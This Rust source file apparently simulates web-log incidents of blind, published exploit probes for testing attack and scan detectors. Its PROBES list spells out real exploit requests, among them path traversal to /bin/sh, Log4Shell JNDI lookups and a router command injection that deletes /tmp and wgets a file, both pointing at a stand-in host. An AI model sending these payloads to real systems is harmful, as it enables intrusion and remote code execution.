//! Requests for known holes that are not there.

use super::{Expectation, Incident};
use crate::request::{Actor, Ask};
use crate::rng::Rng;
use crate::site::{NOT_FOUND_BYTES, Site};
use crate::time::SECOND;

/// Published exploits, sent blindly; the last answer is the front page, which ignores its query.
const PROBES: [(&str, &str); 16] = [
    ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"),
    ("POST", "/cgi-bin/.%%32%65/.%%32%65/.%%32%65/bin/sh"),
    ("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
    (
        "GET",
        "/index.php?s=/index/think%5Capp/invokefunction&function=call_user_func_array&vars%5B0%5D=system&vars%5B1%5D%5B%5D=id",
    ),
    ("GET", "/actuator/env"),
    ("GET", "/solr/admin/cores?action=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.99%2Fa%7D"),
    (
        "GET",
        "/autodiscover/autodiscover.json?@test.example/owa/?&Email=autodiscover/autodiscover.json%3F@test.example",
    ),
    ("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
    ("GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd"),
    ("POST", "/boaform/admin/formLogin"),
    (
        "GET",
        "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.99/m&curpath=/",
    ),
    ("GET", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php"),
    ("GET", "/_ignition/execute-solution"),
    ("GET", "/console/images/%252E%252E%252Fconsole.portal"),
    ("GET", "/?x=${jndi:ldap://203.0.113.99:1389/a}"),
];

/// The list of holes, one after the other, `rounds` times.
pub fn known_holes(site: &Site, actor: &Actor, start_us: i64, rounds: usize, rng: &mut Rng) -> Incident {
    let mut at_us = start_us;
    let mut requests = Vec::new();
    for (method, target) in PROBES.iter().copied().cycle().take(rounds * PROBES.len()) {
        at_us += rng.time(SECOND, 9 * SECOND);
        let (status_code, bytes) = match target {
            front if front.starts_with("/?") || front.starts_with("/index.php?") => {
                (200, site.page_bytes("/", at_us, rng))
            }
            odd if odd.contains("%%") => (400, 150),
            _ => (404, NOT_FOUND_BYTES),
        };
        requests.push(actor.request(Ask { method, ..site.get(at_us, target, "") }, status_code, bytes));
    }
    Incident {
        expectation: Expectation {
            id: "W10",
            kind: "known-holes-without-effect",
            title: "Published exploits sent blindly to software that is not there.",
            detectors: &["attack"],
            also: &["scan"],
            level: "no_sign",
            ..Expectation::default()
        },
        requests,
    }
}
